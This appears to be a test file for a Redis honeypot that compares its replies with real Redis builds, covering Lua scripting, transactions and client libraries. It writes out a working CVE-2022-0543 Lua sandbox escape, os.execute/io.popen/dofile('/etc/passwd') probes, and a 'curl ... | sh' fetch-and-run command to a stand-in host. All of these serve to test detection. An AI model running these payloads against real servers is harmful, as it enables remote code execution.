/**
 * Scripting and transactions against real servers: the same requests to Debian's
 * redis-server 7.0 and to the shipped honeypot (HoneypotServer with a redis-7.0 persona),
 * compared byte for byte; the step bound; WATCH across connections; the CVE-2022-0543 forms
 * on a Debian 5.0 persona; node-redis's multi() and redis-py's Lock release script.
 */
import assert from "node:assert/strict";
import { execFile, spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { after, before, describe, test } from "node:test";
import { promisify } from "node:util";
import { createClient } from "redis";
import { persona } from "../src/honeypot/personas/index.js";
import {
  type RedisProcess,
  redisServerPath,
  redisServerVersion,
  startRedis,
} from "../src/lab/redis.js";
import { encodeCommand } from "../src/resp/index.js";
import {
  type PersonaServer,
  RespConnection,
  sendAll,
  servePersona,
} from "./helpers/honeypot-server.js";
import { freePort } from "./helpers/ports.js";

type Cmd = Array<string | Buffer>;

/** redis-py's Lock release script (redis/lock.py, LUA_RELEASE_SCRIPT). */
const LOCK_RELEASE = `
        local token = redis.call('get', KEYS[1])
        if not token or token ~= ARGV[1] then
            return 0
        end
        redis.call('del', KEYS[1])
        return 1
    `;

const ev = (body: string, ...rest: string[]): Cmd => ["EVAL", body, ...rest];

/** Each step's reply must be the real server's, byte for byte. */
const STEPS: Cmd[] = [
  ev("return 1+1", "0"),
  ev("return 10/3", "0"),
  ev("return tostring(10/2)", "0"),
  ev("return tostring(0.1)", "0"),
  ev("return 'a' .. 1", "0"),
  ev("return {1,2,{3,'x'},nil,5}", "0"),
  ev("return {1,2,3,'ciao',{1,2}}", "0"),
  ev("return {err='My Error'}", "0"),
  ev("return {ok='fine'}", "0"),
  ev("return redis.error_reply('My Error')", "0"),
  ev("return redis.error_reply('oops')", "0"),
  ev("return redis.status_reply('ok then')", "0"),
  ev("return true", "0"),
  ev("return false", "0"),
  ev("return nil", "0"),
  ev("return 3.99", "0"),
  ev("return -3.99", "0"),
  ev("return 1e20", "0"),
  ev("return 'x\\0y'", "0"),
  ev("return #KEYS + #ARGV", "2", "a", "b", "c"),
  ev("return {KEYS[1], ARGV[1], ARGV[2]}", "1", "k", "a", "b"),
  ev("return x", "0"),
  ev("x = 1", "0"),
  ev("return undefined_fn()", "0"),
  ev("local t = nil; return t.x", "0"),
  ev("return 1 +", "0"),
  ev("error('boom')", "0"),
  ev("error({err='CUSTOM bad'})", "0"),
  ev("return pcall(error, 'x')", "0"),
  ev("local ok, e = pcall(function() error('inner') end) return e", "0"),
  ev("return redis.call('set', KEYS[1], ARGV[1])", "1", "lk", "v1"),
  ev("return redis.call('get', KEYS[1])", "1", "lk"),
  ev("return redis.call('get', 'missing')", "0"),
  ev("return redis.call('incr', KEYS[1])", "1", "lk"),
  ev("return redis.pcall('incr', KEYS[1])", "1", "lk"),
  ev("return redis.call('nosuchcommand')", "0"),
  ev("return redis.call('get')", "0"),
  ev("return redis.call()", "0"),
  ev("return redis.call('get', {})", "0"),
  ev("return redis.call('eval', 'return 1', 0)", "0"),
  ev("return redis.call('set', 'n', 3.5)", "0"),
  ev("return redis.call('get', 'n')", "0"),
  ev("return redis.call('set', 'n', 10/2) and redis.call('get', 'n')", "0"),
  ev("redis.call('rpush', 'l', 'a', 'b', 'c') return redis.call('lrange', 'l', 0, -1)", "0"),
  ev("redis.call('hset', 'h', 'f', 'v') return redis.call('hgetall', 'h')", "0"),
  ev("redis.call('sadd', 's', 'm') return redis.call('smembers', 's')", "0"),
  ev("return redis.call('type', 'l')", "0"),
  ev("return redis.call('ping')", "0"),
  ev("return redis.call('del', 'l', 'h', 's', 'n', 'lk')", "0"),
  ev("return cjson.encode({1,2,3})", "0"),
  ev("return cjson.encode({a='b'})", "0"),
  ev("return cjson.encode('a/b\\n')", "0"),
  ev('return cjson.decode(\'{"a":[1,2,{"b":null}]}\').a[2]', "0"),
  ev("return cjson.decode('[1,2.5,\"x\"]')", "0"),
  ev("return type(cjson.decode('null'))", "0"),
  ev("return bit.band(0xff, 0x0f)", "0"),
  ev("return bit.tohex(255)", "0"),
  ev("return bit.bxor(5, 3)", "0"),
  ev("return bit.lshift(1, 31)", "0"),
  ev("return redis.sha1hex('')", "0"),
  ev("return redis.sha1hex('abc')", "0"),
  ev("return math.random(100)", "0"),
  ev("return {math.random(10), math.random(10), math.random(10)}", "0"),
  ev("return tostring(math.random())", "0"),
  ev("math.randomseed(42) return math.random(1000)", "0"),
  ev("return unpack({1,2,3})", "0"),
  ev("return math.pow(2, 10)", "0"),
  ev("return string.format('%d-%s', 5, 'x')", "0"),
  ev("return string.rep('ab', 3)", "0"),
  ev("return table.concat({1,2,3}, ',')", "0"),
  ev("return type(loadstring)", "0"),
  ev("return type(os)", "0"),
  ev("return os.execute('id')", "0"),
  ev("return io.popen('id')", "0"),
  ev("local io_l = package.loadlib('/usr/lib/x86_64-linux-gnu/liblua5.1.so.0', 'luaopen_io')", "0"),
  ev("return require('os')", "0"),
  ev("return dofile('/etc/passwd')", "0"),
  // Lua 5.1 as Redis has it: the version, no debug, 5.1's library, its float printing.
  ev("return _VERSION", "0"),
  ev("return type(debug)", "0"),
  ev("return type(rawlen)", "0"),
  ev("return {type(table.unpack), type(string.pack), type(math.tointeger), type(table.getn)}", "0"),
  ev("return {type(getfenv), type(gcinfo), type(string.gfind)}", "0"),
  ev("return 'x' .. 10/2", "0"),
  ev("return tostring(123456789012345)", "0"),
  ev("return string.format('%5.2f|%d|%s|%x', 3.14159, -2.5, 'a', 255.9)", "0"),
  ev("this is not lua", "0"),
  // Globals of the version: print (before 7.0), dofile (before 3.2), os (7.4, Valkey 8),
  // getfenv, the `server` alias (Valkey 8).
  ev("return {type(print), type(loadfile), type(newproxy), type(setfenv), type(getfenv)}", "0"),
  ev("return type(dofile)", "0"),
  ev("dofile('/nonexistent-redscope/x.lua')", "0"),
  ev("return type(os)", "0"),
  ev("return type(server)", "0"),
  // 5.1's lexer and numbers.
  ev("return 7 // 2", "0"),
  ev("return 3 & 1", "0"),
  ev("return 1 ~ 2", "0"),
  ev("return 1 << 2", "0"),
  ev("::lbl::", "0"),
  ev("goto x", "0"),
  ev("local goto = 5 return goto", "0"),
  ev("local a <const> = 1 return a", "0"),
  ev("return '\\x41\\q\\65'", "0"),
  ev("break", "0"),
  ev("x = [[", "0"),
  ev("return tostring(1 % 0)", "0"),
  ev("return tostring(2^53 + 1)", "0"),
  ev("return tostring(0xffffffffffffffff)", "0"),
  ev("return string.format('%q', 1/3)", "0"),
  ev("return tostring(math.log(8, 2))", "0"),
  // 5.1's library checks and runtime texts.
  ev("return ipairs()", "0"),
  ev("return math.max()", "0"),
  ev("return type(coroutine.running())", "0"),
  ev("return select(2, loadstring('x = '))", "0"),
  ev("return loadstring('return 1 + 1')()", "0"),
  ev("return select(2, load('x = '))", "0"),
  ev("for i = 1, 'x' do end", "0"),
  ev("return 'abc' + 1", "0"),
  ev("return '10' + 1", "0"),
  ev("error(42)", "0"),
  ev("error(nil)", "0"),
  ev("return error('x')", "0"),
  ev("return {pcall(function() local x = nil; return x.y end)}", "0"),
  ev("return string.format('%s', {})", "0"),
  ev("return string.format('%p', {})", "0"),
  ev("return redis.error_reply()", "0"),
  ev("return redis.status_reply(5)", "0"),
  ev("return tostring(cjson.null)", "0"),
  ev("return math.random(0)", "0"),
  // cjson.decode as lua_cjson.c parses (strtod's numbers, its error texts).
  ev("return cjson.decode('[1,2')", "0"),
  ev("return cjson.decode('{\"a\":1,}')", "0"),
  ev("return cjson.decode('\"a\\\\qb\"')", "0"),
  ev("return tostring(cjson.decode('0x10')) .. tostring(cjson.decode('+5'))", "0"),
  ev("return cjson.decode(string.rep('[', 1001))", "0"),
  ev("return cjson.decode('[1,\"x\",true,false,null]')", "0"),
  // struct and cmsgpack, bytes and errors.
  ev("return struct.pack('>I2', 258)", "0"),
  ev("return struct.pack('bBhHlLTiI', -1, 255, -2, 65535, -3, 4, 5, -6, 7)", "0"),
  ev(
    "return struct.pack('!4 b i', 1, 2) .. struct.pack('i3', 70000) .. struct.pack('I16', 1)",
    "0",
  ),
  ev("return struct.pack('>f d', 1.5, 0.1) .. struct.pack('c0 s', 'abc', 'de')", "0"),
  ev("return {struct.unpack('<i4', struct.pack('<i4', -2))}", "0"),
  ev("return {struct.unpack('b c0', struct.pack('b', 3) .. 'abcd')}", "0"),
  ev("return {struct.unpack('s', 'abc\0def')}", "0"),
  ev("return struct.size('i4 !4 b d')", "0"),
  ev("local x = struct.pack('z', 1) return x", "0"),
  ev("local x = struct.pack('c5', 'ab') return x", "0"),
  ev("local x = struct.unpack('i4', 'ab') return x", "0"),
  ev("return cmsgpack.pack({1,2})", "0"),
  ev(
    "return cmsgpack.pack(1, -1, 127, 128, 255, 256, 65535, 65536, -32, -33, -128, -129, -32768, -32769, 4294967295, 4294967296, -2147483648, -2147483649, 2^53, -2^53)",
    "0",
  ),
  ev("return cmsgpack.pack(1.5, 0.1, 1e300, 3.25, true, false, nil, {}, {a=1}, {1,2,nil,4})", "0"),
  ev(
    "return cmsgpack.pack('', 'abc', string.rep('y', 32), string.rep('z', 255), string.rep('w', 256))",
    "0",
  ),
  ev("local t = {} for i=1,17 do t = {t} end return cmsgpack.pack(t)", "0"),
  ev("return cmsgpack.unpack(cmsgpack.pack({1,2,{3,'x'}}))", "0"),
  ev("return {cmsgpack.unpack_limit(cmsgpack.pack(1,2,3), 2)}", "0"),
  ev("return {cmsgpack.unpack_one(cmsgpack.pack(1,2,3), 2)}", "0"),
  ev("local x = cmsgpack.unpack(string.char(0xc1)) return x", "0"),
  ev("redis.setresp(3) return redis.call('hgetall', 'nohash')", "0"),
  ev("return redis.setresp(4)", "0"),
  ev("return redis.log(redis.LOG_WARNING, 'hello')", "0"),
  ev("return redis.replicate_commands()", "0"),
  ev("return {double=3.5}", "0"),
  ev("return redis.REDIS_VERSION_NUM > 0", "0"),
  ev("local t = {} for i = 1, 100 do t[i] = i end return #t", "0"),
  ev("local s = 0 for i = 1, 100000 do s = s + i end return s", "0"),
  ev(LOCK_RELEASE, "1", "lock", "token"),
  ["SET", "lock", "token"],
  ev(LOCK_RELEASE, "1", "lock", "other"),
  ev(LOCK_RELEASE, "1", "lock", "token"),
  ["EVAL", "return 1", "abc"],
  ["EVAL", "return 1", "-1"],
  ["EVAL", "return 1", "3", "a"],
  ["SCRIPT", "LOAD", "return 'loaded'"],
  ["EVALSHA", createHash("sha1").update("return 'loaded'").digest("hex"), "0"],
  ["EVALSHA", "0000000000000000000000000000000000000000", "0"],
  ["SCRIPT", "LOAD", "return +"],
  ["SCRIPT", "EXISTS", createHash("sha1").update("return 'loaded'").digest("hex"), "ab"],
  ["EVAL_RO", "return redis.call('set', 'k', 'v')", "0"],
  ["EVAL_RO", "return redis.call('get', 'k')", "0"],
  ["SCRIPT", "FLUSH"],
  ["SCRIPT", "KILL"],
  // Transactions.
  ["EXEC"],
  ["DISCARD"],
  ["MULTI"],
  ["MULTI"],
  ["SET", "t", "1"],
  ["INCR", "t"],
  ["LPUSH", "t", "x"],
  ["GET", "t"],
  ["EXEC"],
  ["MULTI"],
  ["SET", "t"],
  ["NOSUCH"],
  ["GET", "t"],
  ["EXEC"],
  ["MULTI"],
  ["WATCH", "t"],
  ["PING"],
  ["DISCARD"],
  ["WATCH", "t", "u"],
  ["SET", "t", "changed"],
  ["MULTI"],
  ["GET", "t"],
  ["EXEC"],
  ["WATCH", "t"],
  ["MULTI"],
  ["GET", "t"],
  ["EXEC"],
  ["WATCH", "t"],
  ["UNWATCH"],
  ["SET", "t", "again"],
  ["MULTI"],
  ["EVAL", "return redis.call('get', 't')", "0"],
  ["EXEC"],
  ["HELLO", "3"],
  ["MULTI"],
  ["SET", "r3", "1"],
  ["HGETALL", "r3"],
  ["EXEC"],
  ev("return {map={a=1}}", "0"),
  ev("return {set={x=true}}", "0"),
  ev("return {double=1.5}", "0"),
  ev("return true", "0"),
  ev("return false", "0"),
  ev("return nil", "0"),
  ev("redis.setresp(3) return redis.call('ping')", "0"),
  ["WATCH", "w3"],
  ["SET", "w3", "1"],
  ["MULTI"],
  ["EXEC"],
  ["HELLO", "2"],
  // Functions (7.0+; left out for older builds).
  [
    "FUNCTION",
    "LOAD",
    "#!lua name=mylib\nredis.register_function('myfunc', function(keys, args) return {keys[1], args[1]} end)",
  ],
  ["FCALL", "myfunc", "1", "k", "a"],
  ["FCALL_RO", "myfunc", "0"],
  [
    "FUNCTION",
    "LOAD",
    "#!lua name=rolib\nredis.register_function{function_name='ro', callback=function() return redis.call('get', 'x') end, flags={'no-writes'}}",
  ],
  ["FCALL_RO", "ro", "0"],
  ["FUNCTION", "LIST", "WITHCODE", "LIBRARYNAME", "rol*"],
  [
    "FUNCTION",
    "LOAD",
    "#!lua name=mylib\nredis.register_function('other', function() return 1 end)",
  ],
  ["FUNCTION", "LOAD", "#!lua name=bad\nerror('boom')"],
  ["FUNCTION", "LOAD", "#!lua name=bad\nreturn +"],
  ["FUNCTION", "LOAD", "#!lua name=bad\nlocal x = 1"],
  ["FUNCTION", "LOAD", "#!lua name=bad\nredis.register_function('myfunc', function() end)"],
  ["FUNCTION", "LOAD", "no metadata"],
  ["FUNCTION", "LOAD", "#!js name=x\n"],
  ["FUNCTION", "LOAD", "#!lua\n"],
  ["FCALL", "nosuch", "0"],
  ["FCALL", "myfunc", "x"],
  ["FCALL", "myfunc", "-1"],
  ["FUNCTION", "STATS"],
  ["FUNCTION", "DELETE", "mylib"],
  // One library left: the order of several is Redis's hash table's.
  ["FUNCTION", "LIST"],
  ["FUNCTION", "DELETE", "mylib"],
  ["FUNCTION", "FLUSH"],
  ["FUNCTION", "LIST"],
  // Last: before 6.2.7 these change the server's Lua for every later script.
  ev("string.rep = nil", "0"),
  ev("redis.call = nil", "0"),
];

async function runAll(port: number, steps: Cmd[]): Promise<Buffer[]> {
  const replies = await sendAll(
    port,
    steps.map((s) => encodeCommand(s)),
  );
  // HELLO's map (server id, version …) differs by design; only its shape's first byte.
  return replies.map((r, i) => (steps[i]![0] === "HELLO" ? r.subarray(0, 1) : r));
}

function show(cmd: Cmd): string {
  return cmd
    .map((a) => String(a))
    .join(" ")
    .replace(/\s+/g, " ")
    .slice(0, 90);
}

const HAVE_REDIS =
  redisServerPath() !== undefined && (redisServerVersion() ?? "").startsWith("7.0");

describe("scripting and transactions against Debian's redis-server 7.0", {
  skip: HAVE_REDIS ? false : "redis-server 7.0 not installed",
}, () => {
  let real: RedisProcess;
  let fake: PersonaServer;

  before(async () => {
    real = await startRedis({
      host: "127.0.0.1",
      port: await freePort(),
      config: ["protected-mode no"],
    });
    fake = await servePersona(persona("redis-7.0-open"));
  });

  after(async () => {
    await fake.close();
    await real.stop();
  });

  test(`${STEPS.length} requests answered byte for byte`, async () => {
    const want = await runAll(real.port, STEPS);
    const got = await runAll(fake.port, STEPS);
    const diffs: string[] = [];
    let same = 0;
    for (const [i, s] of STEPS.entries()) {
      assert.ok(want[i]!.length > 0, `${show(s)}: the real server answered nothing`);
      if (got[i]!.equals(want[i]!)) same++;
      else {
        diffs.push(
          `${show(s)}\n  real: ${JSON.stringify(want[i]!.toString("latin1"))}\n  fake: ${JSON.stringify(got[i]!.toString("latin1"))}`,
        );
      }
    }
    console.log(`lua differential: ${same}/${STEPS.length} identical`);
    assert.deepEqual(diffs, [], diffs.join("\n"));
  });
});

/** Builds of other versions (scripts/build-servers.sh), compared where present. */
const BUILDS: Array<{ dir: string; persona: string; version?: string; config?: string[] }> = [
  { dir: "redis-7.4.1", persona: "redis-7.4-open" },
  { dir: "redis-6.2.16", persona: "redis-6.2-open" },
  { dir: "redis-5.0.8", persona: "redis-5.0-open" },
  { dir: "redis-3.2.12", persona: "redis-3.2-open" },
  { dir: "redis-2.8.24", persona: "redis-2.8-open", config: [] },
  { dir: "valkey-8.0.1", persona: "valkey-8-open", version: "8.0.1" },
];
// The builds are made from source: the personas claim the same (a Debian 5.0 package would
// expose `package`, CVE-2022-0543, which a source build does not).

for (const build of BUILDS) {
  const bin = path.join(process.env.REDSCOPE_SERVERS ?? "/work/servers", build.dir, "redis-server");
  describe(`scripting and transactions against ${build.dir}`, {
    skip: fs.existsSync(bin) ? false : `${bin} not built`,
  }, () => {
    test("the same requests, compared byte for byte", async () => {
      const real = await startRedis({
        host: "127.0.0.1",
        port: await freePort(),
        config: build.config ?? ["protected-mode no"],
        bin,
      });
      const fake = await servePersona(
        persona(build.persona, {
          layout: "source",
          ...(build.version === undefined ? {} : { version: build.version }),
        }),
      );
      try {
        const steps = STEPS.filter(
          (s) =>
            !/^(EVAL(SHA)?_RO|FUNCTION|FCALL(_RO)?)$/.test(String(s[0])) || build.dir >= "redis-7",
        );
        const want = await runAll(real.port, steps);
        const got = await runAll(fake.port, steps);
        let same = 0;
        const diffs: string[] = [];
        for (const [i, s] of steps.entries()) {
          if (got[i]!.equals(want[i]!)) same++;
          else {
            diffs.push(
              `${show(s)}\n  real: ${JSON.stringify(want[i]!.toString("latin1"))}\n  fake: ${JSON.stringify(got[i]!.toString("latin1"))}`,
            );
          }
        }
        console.log(`lua differential ${build.dir}: ${same}/${steps.length} identical`);
        if (process.env.LUA_DIFF_SHOW === "1") console.log(diffs.join("\n"));
        const floor = FLOORS[build.dir] ?? steps.length;
        assert.ok(
          same >= floor,
          `${same} identical, expected at least ${floor}:\n${diffs.join("\n")}`,
        );
      } finally {
        await fake.close();
        await real.stop();
      }
    });
  });
}

/** Replies known identical per build: the test fails when fewer are (a regression). */
const FLOORS: Record<string, number> = {
  // Valkey 8 refuses MULTI and WATCH inside MULTI with "Command not allowed inside a
  // transaction" (and then aborts EXEC): the transactions' texts, not scripting's.
  "valkey-8.0.1": 248,
};

describe("scripting bounds, the CVE-2022-0543 forms and real clients on the shipped server", () => {
  test("a script past the step bound ends as SCRIPT KILL ends it (the version's reply, recorded as a limit)", async () => {
    const srv = await servePersona(persona("redis-7.0-open"));
    const old = await servePersona(persona("redis-6.0-open"));
    const sha = (b: string) => createHash("sha1").update(b).digest("hex");
    try {
      // The texts real servers answer after SCRIPT KILL (7.0.15 and 6.0.20, run by hand).
      const conn = await RespConnection.open(srv.port);
      const body = "while true do end";
      const reply = await conn.send(encodeCommand(["EVAL", body, "0"]), 1, 20_000);
      assert.equal(
        reply.toString("latin1"),
        `-ERR Script killed by user with SCRIPT KILL... script: ${sha(body)}, on @user_script:1.\r\n`,
      );
      assert.equal((await conn.send(encodeCommand(["PING"]))).toString(), "+PONG\r\n");
      conn.close();
      const c6 = await RespConnection.open(old.port);
      assert.equal(
        (await c6.send(encodeCommand(["EVAL", body, "0"]), 1, 20_000)).toString("latin1"),
        `-ERR Error running script (call to f_${sha(body)}): @user_script:1: Script killed by user with SCRIPT KILL...\r\n`,
      );
      c6.close();
      // A script cannot catch the bound with pcall, xpcall or a coroutine and loop on.
      for (const body of [
        "while true do pcall(function() while true do end end) end",
        "while true do xpcall(function() while true do end end, function(e) return e end) end",
        "local co = coroutine.wrap(function() while true do end end) while true do pcall(co) end",
      ]) {
        const c = await RespConnection.open(srv.port);
        const r = (await c.send(encodeCommand(["EVAL", body, "0"]), 1, 20_000)).toString("latin1");
        assert.match(
          r,
          /^-ERR Script killed by user with SCRIPT KILL\.\.\. script: [0-9a-f]{40}, on @user_script:1\.\r\n$/,
          body,
        );
        assert.ok(!c.closed, body);
        c.close();
      }
      const limits = srv.recorder.rows.filter((r) => JSON.stringify(r).includes("script_steps"));
      assert.ok(limits.length >= 4, "the step bound is recorded");
    } finally {
      await srv.close();
      await old.close();
    }
  });

  test("a memory-hungry script gets Lua's memory error, the connection lives", async () => {
    const srv = await servePersona(persona("redis-7.0-open"));
    try {
      const conn = await RespConnection.open(srv.port);
      const body = "local s = 'x' for i = 1, 40 do s = s .. s end return #s";
      const reply = (await conn.send(encodeCommand(["EVAL", body, "0"]))).toString("latin1");
      assert.match(reply, /^-ERR .*not enough memory/);
      assert.equal((await conn.send(encodeCommand(["PING"]))).toString(), "+PONG\r\n");
      conn.close();
    } finally {
      await srv.close();
    }
  });

  test("CVE-2022-0543 on a Debian 5.0 persona: package.loadlib seems to work, nothing runs", async () => {
    const srv = await servePersona(persona("redis-5.0-open"));
    try {
      const conn = await RespConnection.open(srv.port);
      const body =
        'local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); ' +
        'local io = io_l(); local f = io.popen("id", "r"); local res = f:read("*a"); f:close(); return res';
      const reply = await conn.send(encodeCommand(["EVAL", body, "0"]));
      assert.equal(reply.toString("latin1"), "$0\r\n\r\n");
      conn.close();
      const effects = srv.recorder.rows
        .map((r) => JSON.stringify(r))
        .filter((r) => r.includes('"command":"id"'));
      assert.ok(effects.length > 0, "the command is recorded");
      // A Docker 7.4 build has no package library.
      const other = await servePersona(persona("redis-7.4-open"));
      const c2 = await RespConnection.open(other.port);
      const r2 = (await c2.send(encodeCommand(["EVAL", body, "0"]))).toString("latin1");
      assert.match(r2, /nonexistent global variable 'package'/);
      c2.close();
      await other.close();
    } finally {
      await srv.close();
    }
  });

  test("node-redis multi() and WATCH against the persona", async () => {
    const srv = await servePersona(persona("redis-7.0-open"));
    const client = createClient({
      socket: { host: "127.0.0.1", port: srv.port, reconnectStrategy: false },
    });
    client.on("error", () => {});
    try {
      await client.connect();
      const out = await client.multi().set("a", "1").incr("a").get("a").exec();
      assert.deepEqual(out, ["OK", 2, "2"]);
      await client.watch("a");
      await client.set("a", "changed");
      await assert.rejects(client.multi().get("a").exec(), /WatchError|watched/i);
      const lock = await client.eval(LOCK_RELEASE, { keys: ["a"], arguments: ["changed"] });
      assert.equal(lock, 1);
    } finally {
      await client.quit().catch(() => {});
      await srv.close();
    }
  });
});

describe("the CVE-2022-0543 command reaches the classifier and the indicators", () => {
  test("a command built at run time is recorded, classified and searched", async () => {
    const srv = await servePersona(persona("redis-5.0-open"));
    try {
      const conn = await RespConnection.open(srv.port);
      // The command never appears literally in the script.
      const body =
        'local l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io")() ' +
        'local c = "cur" .. "l -s http://" .. string.rep("9", 3) .. ".example/x.sh | sh" ' +
        "local f = l.popen(c); local r = f:read('*a'); f:close(); return r";
      assert.equal(
        (await conn.send(encodeCommand(["EVAL", body, "0"]))).toString("latin1"),
        "$0\r\n\r\n",
      );
      conn.close();
      await srv.close();
      const rows = srv.recorder.rows.map((r) => JSON.stringify(r)).join("\n");
      assert.match(rows, /curl -s http:\/\/999\.example\/x\.sh \| sh/);
      assert.match(rows, /shell command via Lua/);
      assert.match(rows, /999\.example/);
    } finally {
      await srv.close().catch(() => {});
    }
  });
});

const HAVE_CLI = spawnSync("sh", ["-c", "command -v redis-cli"]).status === 0;

describe("real clients' wire forms against Debian's redis-server 7.0", {
  skip: HAVE_REDIS ? false : "redis-server 7.0 not installed",
}, () => {
  let real: RedisProcess;
  let fake: PersonaServer;

  before(async () => {
    real = await startRedis({
      host: "127.0.0.1",
      port: await freePort(),
      config: ["protected-mode no"],
    });
    fake = await servePersona(persona("redis-7.0-open"));
  });

  after(async () => {
    await fake.close();
    await real.stop();
  });

  /** Requests written at once (as a pipeline writes them); the replies, all of them. */
  async function pipeline(port: number, cmds: Cmd[], replies: number): Promise<string> {
    const conn = await RespConnection.open(port);
    try {
      const bytes = Buffer.concat(cmds.map((c) => encodeCommand(c)));
      return (await conn.send(bytes, replies, 3000)).toString("latin1");
    } finally {
      conn.close();
    }
  }

  test("redis-py's transactional pipeline with WATCH, as it writes it", async () => {
    // pipe.watch('acct'); pipe.get('acct') (immediate); pipe.multi(); pipe.set(…); pipe.execute()
    const steps: Array<{ cmds: Cmd[]; replies: number }> = [
      { cmds: [["SET", "acct", "10"]], replies: 1 },
      { cmds: [["WATCH", "acct"]], replies: 1 },
      { cmds: [["GET", "acct"]], replies: 1 },
      {
        cmds: [["MULTI"], ["SET", "acct", "9"], ["INCRBY", "log", "1"], ["EXEC"]],
        replies: 4,
      },
      { cmds: [["WATCH", "acct"]], replies: 1 },
      { cmds: [["SET", "acct", "changed elsewhere"]], replies: 1 },
      { cmds: [["MULTI"], ["SET", "acct", "8"], ["EXEC"]], replies: 3 },
      { cmds: [["MULTI"], ["SET", "acct"], ["EXEC"]], replies: 3 },
    ];
    const run = async (port: number): Promise<string[]> => {
      const conn = await RespConnection.open(port);
      const out: string[] = [];
      try {
        for (const s of steps) {
          const bytes = Buffer.concat(s.cmds.map((c) => encodeCommand(c)));
          out.push((await conn.send(bytes, s.replies, 3000)).toString("latin1"));
        }
      } finally {
        conn.close();
      }
      return out;
    };
    const want = await run(real.port);
    const got = await run(fake.port);
    assert.deepEqual(got, want);
    assert.equal(want[3], "+OK\r\n+QUEUED\r\n+QUEUED\r\n*2\r\n+OK\r\n:1\r\n");
    assert.equal(want[6], "+OK\r\n+QUEUED\r\n*-1\r\n");
    assert.equal(await pipeline(fake.port, [["PING"]], 1), "+PONG\r\n");
  });

  test("redis-cli --eval answers the same", {
    skip: HAVE_CLI ? false : "no redis-cli",
  }, async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "redscope-lua-"));
    try {
      const file = path.join(dir, "release.lua");
      fs.writeFileSync(file, LOCK_RELEASE);
      // Asynchronous: the honeypot answers from this very process.
      const cli = async (port: number, args: string[]): Promise<string> =>
        (
          await promisify(execFile)("redis-cli", ["-h", "127.0.0.1", "-p", String(port), ...args], {
            encoding: "latin1",
            timeout: 10_000,
          })
        ).stdout;
      // Each redis-cli run is a connection of its own (a keyspace of its own here, for now):
      // the second script takes the lock itself before releasing it.
      const takeAndRelease = path.join(dir, "take-release.lua");
      fs.writeFileSync(takeAndRelease, `redis.call('set', KEYS[1], ARGV[1])\n${LOCK_RELEASE}`);
      for (const args of [
        ["--eval", file, "lk", ",", "other"],
        ["--eval", takeAndRelease, "lk", ",", "tok"],
        ["--eval", file],
      ]) {
        assert.equal(await cli(fake.port, args), await cli(real.port, args), args.join(" "));
      }
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
